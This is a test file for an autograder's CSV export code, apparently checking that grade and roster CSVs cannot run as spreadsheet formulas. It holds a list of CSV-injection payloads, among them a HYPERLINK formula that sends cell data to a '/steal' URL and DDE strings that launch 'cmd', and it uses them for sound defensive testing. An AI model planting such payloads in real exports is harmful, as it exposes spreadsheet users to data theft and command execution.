"""Every CSV we write is inert in a spreadsheet (autograder/csvsafe.py), read back by text and as
a spreadsheet reads a CSV.

How a spreadsheet reads a CSV is modelled in tests/support/spreadsheet.py.
"""

import csv
import math

import pytest
from hypothesis import given
from hypothesis import strategies as st
from support.gradebooks import course, hand_in
from support.spreadsheet import NUMBER, formula_text, formulas, import_csv

from autograder import csvsafe
from autograder.intake.roster import Enrolled, Roster
from autograder.outcome import Outcome
from autograder.report import exports
from autograder.report.class_report import write_class_report
from autograder.report.tables import export_grades, write_report

# what a spreadsheet could run: formulas, DDE, a formula behind a tab, CR or spaces
HOSTILE = [
    '=HYPERLINK("http://127.0.0.1/steal?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\uff1d1+1",  # a full-width equals sign
    "'=already quoted",
    "'",
    "\x1b=1+1",  # ESC, dropped by the import
]


def test_the_spreadsheet_model_sees_the_hostile_cells_as_formulas(tmp_path):
    # the check below can fail: written raw, every hostile cell is a formula but the quote ones
    path = tmp_path / "raw.csv"
    with open(path, "w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows([[h] for h in HOSTILE])
    raw = formulas(import_csv(path, tmp_path))
    assert len(raw) == len(HOSTILE) - 2, raw  # all but the two that start with a quote


def test_hostile_text_is_quoted_and_given_back_exactly(tmp_path):
    path = csvsafe.write(tmp_path / "t.csv", ["name"], [[h] for h in HOSTILE])
    with open(path, newline="", encoding="utf-8") as fh:
        cells = [row[0] for row in csv.reader(fh)][1:]
    assert all(c.startswith("'") for c in cells), cells
    assert [csvsafe.original(c) for c in cells] == HOSTILE
    assert formulas(import_csv(path, tmp_path)) == []


def test_numbers_stay_numbers_and_plain_text_stays_as_it_is(tmp_path):
    values = [12.8, 16.0, 0, 3, -1.5, 1e20, 0.57]
    path = csvsafe.write(tmp_path / "n.csv", ["a", "b", "c"], [[v, "Ada", "a-b"] for v in values])
    cells = import_csv(path, tmp_path)[1:]
    assert [c[0].value for c in cells] == values
    assert all(c[0].data_type == "n" for c in cells)
    assert {c[1].value for c in cells} == {"Ada"} and {c[2].value for c in cells} == {"a-b"}


def test_what_is_not_a_number_is_text():
    assert csvsafe.cell(True) == "True" and csvsafe.cell(None) == ""
    assert csvsafe.cell(float("-inf")) == "'-inf" and csvsafe.cell(float("nan")) == "nan"
    assert csvsafe.cell("-1.5") == "'-1.5"  # a string is text, whatever it looks like


@given(st.text())
def test_any_text_makes_a_cell_that_is_no_formula_and_gives_the_text_back(text):
    cell = csvsafe.neutral(text)
    assert csvsafe.original(cell) == text
    assert formula_text(cell) is None
    assert cell == "" or cell[0].isprintable()
    assert cell == text or cell == "'" + text


@given(st.lists(st.one_of(st.text(), st.floats(allow_nan=False), st.integers()), max_size=6))
def test_any_row_reads_back_as_written(tmp_path_factory, row):
    path = csvsafe.write(tmp_path_factory.mktemp("rows") / "r.csv", ["h"], [row])
    with open(path, newline="", encoding="utf-8") as fh:
        back = list(csv.reader(fh))[1]
    assert len(back) == len(row)
    for value, cell in zip(row, back, strict=True):
        if isinstance(value, str):
            assert csvsafe.original(cell) == value
        elif math.isfinite(value):  # the text gives the number back exactly
            assert NUMBER.fullmatch(cell)
            assert (int(cell) if isinstance(value, int) else float(cell)) == value


# --- every CSV of a course, with hostile names -------------------------------------------------

CH = "04_backpropagation"


@pytest.fixture
def hostile_course(tmp_path):
    """A course whose students' ids, names, emails and roster fields are all hostile."""
    people = {
        f"={i}+1": {"first_name": h, "last_name": h, "email": h, "lms_user_id": f"-{i}"}
        for i, h in enumerate(HOSTILE)
    }
    writer = course(tmp_path / "course", {CH: 13.0}, people)
    for i, student in enumerate(people):
        hand_in(writer, student, CH, 13.0 - i)
    roster = Roster(
        {
            s: Enrolled(s, sis_user_id=h, sis_login_id=h, section=h, idnumber=h)
            for s, h in zip(people, HOSTILE, strict=True)
        }
    )
    roster.save(writer.root)
    outcomes = [
        Outcome(s, CH, "graded", 13.0 - i, 13.0, 1.5, reason=h)
        for i, (s, h) in enumerate(zip(people, HOSTILE, strict=True))
    ]
    return writer, people, roster, outcomes


def test_every_csv_of_a_course_is_inert_and_its_names_come_back(hostile_course, tmp_path):
    writer, people, roster, outcomes = hostile_course
    root = writer.root
    written = exports.write(root, writer.db_url, Roster.load(root), ["canvas", "moodle"])
    write_report(outcomes, root / "report.csv")
    export_grades(writer.db_url, root / "grades.csv")
    write_class_report(root, outcomes, [])
    paths = [*written, root / "report.csv", root / "grades.csv"]
    paths += [root / "class_report_students.csv", root / "roster.csv"]
    for path in paths:
        cells = import_csv(path, tmp_path)
        assert formulas(cells) == [], path.name
        with open(path, newline="", encoding="utf-8") as fh:
            text = [csvsafe.original(c) for row in csv.reader(fh) for c in row]
        assert set(HOSTILE) <= set(text), path.name
        if path.name not in ("grades_canvas.csv", "grades_moodle.csv"):  # no student id there
            assert set(people) <= set(text), path.name  # the ids, given back exactly
    # scores are numbers where an LMS reads them
    canvas = import_csv(root / "grades_canvas.csv", tmp_path)
    assert [c.value for c in canvas[1][5:]] == [13.0]  # Points Possible
    assert (
        sorted(row[5].value for row in canvas[2:]) == [13.0 - i for i in range(len(HOSTILE))][::-1]
    )
    report = import_csv(root / "report.csv", tmp_path)
    assert all(row[3].data_type == "n" and row[5].value == 1.5 for row in report[1:])


def test_the_roster_kept_in_the_course_comes_back_as_given(hostile_course):
    writer, _, roster, _ = hostile_course
    with open(writer.root / "roster.csv", newline="", encoding="utf-8") as fh:
        ids = [row[0] for row in csv.reader(fh)][1:]
    assert ids and all(i.startswith("'=") for i in ids)  # quoted on disk
    assert Roster.load(writer.root) == roster
